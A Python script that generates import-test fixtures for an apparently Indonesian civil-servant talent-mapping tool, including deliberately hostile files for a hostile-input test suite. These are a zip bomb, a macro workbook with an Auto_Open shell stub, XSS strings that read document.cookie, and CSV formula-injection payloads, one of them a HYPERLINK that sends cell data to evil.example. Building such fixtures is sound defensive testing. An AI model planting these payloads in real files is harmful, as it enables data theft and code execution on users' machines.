"""Regenerate the small committed import fixtures: ``python tests/data/make_fixtures.py``.

Each file is tiny and real (written by the same libraries agencies' tools use); the tests read them
through the normal import path.
"""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd

HERE = Path(__file__).resolve().parent
GOOD, BAD = HERE / "good", HERE / "bad"

HEADER = [
    "NIP",
    "Nama",
    "Instansi",
    "Unit Kerja",
    "Jabatan",
    "Jenis Jabatan",
    "Periode",
    "Nilai Kinerja",
    "Kompetensi",
]
ROWS = [
    ["199703062021091001", "Budi Santoso", "Pemerintah Kabupaten Ende", "Dinas Pendidikan", "Guru Ahli Pertama", "Fungsional", 2025, "87,5", "70"],
    ["198502142010012003", "Maria Goreti Bria", "Pemerintah Kabupaten Ende", "Dinas Kesehatan", "Perawat Ahli Muda", "Fungsional", 2025, "72", "64,5"],
    ["197811202005011002", "Yohanes Nggadas", "Pemerintah Kabupaten Ende", "Sekretariat Daerah", "Kepala Bagian Umum", "Administrator", 2025, "81", "83"],
]  # fmt: skip


def csv_text(rows: list[list[object]], sep: str = ",", header: list[str] = HEADER) -> str:
    lines = [sep.join(header)] + [sep.join(str(c) for c in r) for r in rows]
    return "\n".join(lines) + "\n"


def write_xlsx(path: Path, rows: list[list[object]], *, titles: int = 0, header: list[str] = HEADER) -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    for i in range(titles):
        ws.append([f"DATA PEMETAAN TALENTA — baris judul {i + 1}"])
    if titles:
        ws.append([])
    ws.append(header)
    for r in rows:
        ws.append(r)
    wb.save(path)


def exact_integer_nip(path: Path, nip: int) -> None:
    """Rewrite the float openpyxl stores into all 18 digits, as some exporters write NIPs."""
    src = zipfile.ZipFile(path).infolist()
    blobs = {i.filename: zipfile.ZipFile(path).read(i.filename) for i in src}
    sheet = "xl/worksheets/sheet1.xml"
    blobs[sheet] = blobs[sheet].replace(repr(float(nip)).encode(), str(nip).encode())
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for name, blob in blobs.items():
            out.writestr(name, blob)


def main() -> None:
    GOOD.mkdir(exist_ok=True)
    BAD.mkdir(exist_ok=True)
    # --- good files: every format variant loads to the same three rows -------------------------
    (GOOD / "comma_utf8.csv").write_text(
        csv_text(
            [
                [
                    c.replace(",", ".") if isinstance(c, str) and c[:1].isdigit() and len(c) < 6 else c
                    for c in r
                ]
                for r in ROWS
            ]
        ),
        encoding="utf-8",
    )
    (GOOD / "semicolon_decimal_comma.csv").write_text(csv_text(ROWS, ";"), encoding="utf-8")
    (GOOD / "semicolon_bom.csv").write_text(csv_text(ROWS, ";"), encoding="utf-8-sig")
    cp = [r[:] for r in ROWS]
    cp[1][1] = "Maria Goreti Bría"  # a non-ASCII letter as Windows-1252 writes it
    (GOOD / "semicolon_cp1252.csv").write_bytes(csv_text(cp, ";").encode("cp1252"))
    aliases = [
        "NIP Baru",
        "nama_pegawai",
        "NAMA INSTANSI",
        "OPD",
        "Nama Jabatan",
        "jenis jabatan",
        "Tahun",
        "Nilai SKP",
        "Penilaian Kompetensi",
    ]
    (GOOD / "aliases.csv").write_text(csv_text(ROWS, ";", aliases), encoding="utf-8")
    xl_rows = [
        [int(r[0]) if i == 0 else r[0], *r[1:7], float(r[7].replace(",", ".")), float(r[8].replace(",", "."))]
        for i, r in enumerate(ROWS)
    ]
    write_xlsx(GOOD / "titles_numbers.xlsx", xl_rows, titles=2)
    exact_integer_nip(GOOD / "titles_numbers.xlsx", int(ROWS[0][0]))
    pd.DataFrame([dict(zip(HEADER, r, strict=True)) for r in ROWS]).astype(str).to_parquet(
        GOOD / "plain.parquet"
    )
    full = ["NIP", "Nama", "Instansi", "Jenis Instansi", "Provinsi", "Kab/Kota", "Unit Kerja", "Jabatan", "Jenis Jabatan",
            "Gol", "JK", "Tgl Lahir", "Pendidikan Terakhir", "Periode", "Predikat SKP", "Penghargaan", "Penugasan Tim Kerja",
            "Umpan Balik 360", "Nilai Kompetensi", "Pengembangan Kompetensi", "Pengalaman Jabatan", "Nilai Potensi",
            "Kualifikasi Pendidikan", "Kesesuaian Bidang Ilmu", "Rekam Jejak", "Catatan BKD"]  # fmt: skip
    full_rows = [
        ["199703062021091001", "Budi Santoso", "Pemerintah Kabupaten Ende", "Kabupaten", "Nusa Tenggara Timur", "Kabupaten Ende",
         "Dinas Pendidikan", "Guru Ahli Pertama", "Fungsional", "III/a", "L", "06/03/1997", "S1", "2025", "Sangat Baik",
         "60", "80", "75", "70", "65", "50", "68", "70", "80", "90", "mutasi 2024"],
        ["198502142010012003", "Maria Goreti Bria", "Pemerintah Kabupaten Ende", "kabupaten", "Nusa Tenggara Timur", "Kabupaten Ende",
         "Dinas Kesehatan", "Perawat Ahli Muda", "fungsional", "III/c", "Perempuan", "1985-02-14", "S1", "2025", "Kurang/Misconduct",
         "40", "55,5", "60", "64,5", "50", "70", "58", "70", "90", "40", ""],
    ]  # fmt: skip
    (GOOD / "all_columns.csv").write_text(csv_text(full_rows, ";", full), encoding="utf-8")

    # --- bad files: one per class ------------------------------------------------------------------
    (BAD / "empty.csv").write_bytes(b"")
    (BAD / "header_only.csv").write_text(";".join(HEADER) + "\n", encoding="utf-8")
    (BAD / "missing_required.csv").write_text(
        csv_text([r[:3] + r[4:] for r in ROWS], ";", HEADER[:3] + HEADER[4:]), encoding="utf-8"
    )
    (BAD / "csv_named_xlsx.xlsx").write_text(csv_text(ROWS, ";"), encoding="utf-8")
    buf = io.BytesIO()
    tmp = HERE / "_tmp.xlsx"
    write_xlsx(tmp, ROWS)
    whole = tmp.read_bytes()
    tmp.unlink()
    (BAD / "truncated.xlsx").write_bytes(whole[: len(whole) // 2])
    (BAD / "truncated.csv").write_text(
        csv_text(ROWS, ";") + '199001012015031001;"Nama tanpa tutup kutip', encoding="utf-8"
    )
    (BAD / "binary.csv").write_bytes(bytes(range(256)) * 8)
    zipfile.ZipFile(buf, "w").writestr("readme.txt", "not a workbook")
    (BAD / "zip_named_xlsx.xlsx").write_bytes(buf.getvalue())
    bad_nips = [r[:] for r in ROWS]
    bad_nips[0][0] = "19970306202109100"  # 17 digits
    bad_nips[1][0] = "19850214201001200X"  # a letter
    bad_nips[2][0] = "197813202005011002"  # month 13 of birth date
    (BAD / "nip_form.csv").write_text(csv_text(bad_nips, ";"), encoding="utf-8")
    gender = [r[:] for r in ROWS]
    gender[0][0] = "199703062021093001"  # gender digit 3
    (BAD / "nip_gender.csv").write_text(csv_text(gender, ";"), encoding="utf-8")
    sci = [r[:] for r in ROWS]
    sci[0][0] = "1,99703062021091E+17"
    (BAD / "nip_scientific.csv").write_text(csv_text(sci, ";"), encoding="utf-8")
    xl = [[float(r[0]) if i == 0 else r[0], *r[1:]] for i, r in enumerate(ROWS)]
    write_xlsx(BAD / "nip_float.xlsx", xl)
    rng = [r[:] for r in ROWS]
    rng[0][7] = "101"
    rng[1][8] = "-3"
    rng[2][7] = "delapan puluh"
    (BAD / "score_range.csv").write_text(csv_text(rng, ";"), encoding="utf-8")
    cat = [r[:] for r in ROWS]
    cat[0][5] = "Direktur"
    (BAD / "bad_category.csv").write_text(csv_text(cat, ";"), encoding="utf-8")
    dup = [r[:] for r in ROWS] + [ROWS[0][:]]
    (BAD / "duplicate_nip.csv").write_text(csv_text(dup, ";"), encoding="utf-8")
    blank = [r[:] for r in ROWS]
    blank[1][3] = ""
    (BAD / "required_blank.csv").write_text(csv_text(blank, ";"), encoding="utf-8")
    mism = [["199703062021091001", "Budi", "X", "U", "J", "Fungsional", 2025, "80", "70", "P", "01/01/1990"]]
    (BAD / "nip_mismatch_warning.csv").write_text(
        csv_text(mism, ";", HEADER + ["JK", "Tanggal Lahir"]), encoding="utf-8"
    )
    (BAD / "ragged.csv").write_text(csv_text(ROWS, ";") + "1;2;3;4;5;6;7;8;9;10;11;12\n", encoding="utf-8")
    (BAD / "no_header.csv").write_text("a;b;c\n1;2;3\n", encoding="utf-8")
    (BAD / "old_excel.xls").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504)
    # merit: a score above its aspect maximum and an unknown aspect
    merit = "Instansi;Periode;Tahap;Aspek;Nilai\nPemerintah Kabupaten Ende;2025;Mandiri;Perlindungan dan Pelayanan;17\nPemerintah Kabupaten Ende;2025;Mandiri;Aspek Khayalan;10\n"
    (BAD / "merit_bad.csv").write_text(merit, encoding="utf-8")

    hostile()
    print("fixtures written", dt.datetime.now().isoformat(timespec="seconds"))


def _xlsx_parts(rows: list[list[object]], header: list[str] = HEADER) -> dict[str, bytes]:
    """The parts of a small real workbook, to be edited by hand like a hostile tool would."""
    buf = io.BytesIO()
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(header)
    for r in rows:
        ws.append(r)
    wb.save(buf)
    z = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    return {name: z.read(name) for name in z.namelist()}


def _write_zip(path: Path, parts: dict[str, bytes], level: int = 6) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as out:
        for name, blob in parts.items():
            out.writestr(name, blob)


def hostile() -> None:
    """Hostile and broken input (tests/test_hostile.py): each gets a clear message or loads inertly."""
    # an enormous cell: a 5 MB name (as a paste accident or an attack on memory/rendering)
    big = [r[:] for r in ROWS]
    big[0][1] = "A" * 5_000_000
    (BAD / "huge_cell.csv").write_text(csv_text(big, ";"), encoding="utf-8")
    # 1,000 columns: the nine known ones and 991 unknown
    wide_header = HEADER + [f"Kolom {i}" for i in range(991)]
    wide_rows = [r + [str(i) for i in range(991)] for r in ROWS]
    (BAD / "wide_1000_columns.csv").write_text(csv_text(wide_rows, ";", wide_header), encoding="utf-8")
    # binary garbage with a .csv name (seeded, so the file is stable)
    import random

    rnd = random.Random(20250101)
    (BAD / "garbage_random.csv").write_bytes(bytes(rnd.getrandbits(8) for _ in range(64_000)))
    # a zip bomb: a real workbook whose sheet part expands to 200 MB of whitespace (~200 KB on disk)
    parts = _xlsx_parts(ROWS)
    sheet = parts["xl/worksheets/sheet1.xml"]
    parts["xl/worksheets/sheet1.xml"] = sheet.replace(b"<sheetData>", b"<sheetData>" + b" " * 200_000_000, 1)
    _write_zip(BAD / "zip_bomb.xlsx", parts, level=9)
    # formulas and an external link: =HYPERLINK, a formula reading another workbook over http
    parts = _xlsx_parts(
        [
            r + [f]
            for r, f in zip(
                ROWS, ['=HYPERLINK("http://evil.example/x","klik")', "=[1]Sheet1!A1", "=1+1"], strict=True
            )
        ],
        HEADER + ["Catatan"],
    )
    parts["xl/externalLinks/externalLink1.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        b'<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>'
    )
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
        b'Target="http://evil.example/data.xlsx" TargetMode="External"/></Relationships>'
    )
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rIdExt1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" '
        b'Target="externalLinks/externalLink1.xml"/></Relationships>',
    )
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
        b"</sheets>",
        b'</sheets><externalReferences><externalReference r:id="rIdExt1"/></externalReferences>',
        1,
    )
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/xl/externalLinks/externalLink1.xml" '
        b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>',
    )
    _write_zip(BAD / "external_links.xlsx", parts)
    # a macro-enabled workbook: a vbaProject.bin part (an OLE header and an auto-open marker)
    parts = _xlsx_parts(ROWS)
    parts["xl/vbaProject.bin"] = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + b'Sub Auto_Open()\nShell "calc"\nEnd Sub\n'
    )
    parts["[Content_Types].xml"] = (
        parts["[Content_Types].xml"]
        .replace(
            b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        )
        .replace(
            b"</Types>",
            b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
        )
    )
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        b'Target="vbaProject.bin"/></Relationships>',
    )
    _write_zip(BAD / "macros.xlsm", parts)
    # names carrying HTML/JS: must be shown as text, never rendered
    html = [r[:] for r in ROWS]
    html[0][1] = "<script>alert(1)</script>"
    html[1][1] = '<img src=x onerror="alert(document.cookie)">'
    html[2][3] = "<b>Sekretariat</b> [klik](javascript:alert(1)) ![x](http://evil.example/p.png)"
    (BAD / "html_names.csv").write_text(csv_text(html, ";"), encoding="utf-8")
    # CSV/formula injection payloads in text cells (quoted so the separators inside survive)
    payloads = [
        '=HYPERLINK(""http://evil.example/?d=""&A1;""klik"")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ]
    inj = [r[:] for r in ROWS]
    for r, payload in zip(inj, payloads, strict=True):
        r[1] = '"' + payload + '"'
    inj[2][4] = "-2+3+cmd|' /C calc'!A0"
    (BAD / "formula_payloads.csv").write_text(csv_text(inj, ";"), encoding="utf-8")
    # mixed encodings: the first rows saved as UTF-8, a later row appended from a Windows-1252 tool
    first = csv_text([ROWS[0], [ROWS[1][0], "Maria Goreti Bría", *ROWS[1][2:]]], ";")
    last = ";".join(str(c) for c in [ROWS[2][0], "Yohanes Nggadas Ñañez", *ROWS[2][2:]]) + "\n"
    (BAD / "mixed_encoding.csv").write_bytes(first.encode("utf-8") + last.encode("cp1252"))


if __name__ == "__main__":
    main()
